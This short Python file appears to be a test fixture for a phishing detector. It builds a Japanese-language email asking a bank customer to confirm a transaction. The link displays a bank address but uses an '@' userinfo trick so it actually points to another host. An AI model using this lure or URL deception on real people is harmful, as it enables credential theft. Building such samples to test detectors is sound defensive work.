# A bank's name in front of the host; the real one is on the other side.
from parts import *

message = mail(html_part("<p>お客様のお取引を確認する必要があります。下記よりお手続きください。</p>"
                         "<p><a href=\"https://www.bank.example@login.other.example/\">https://www.bank.example/</a></p>"),
               sender="info@other.example")
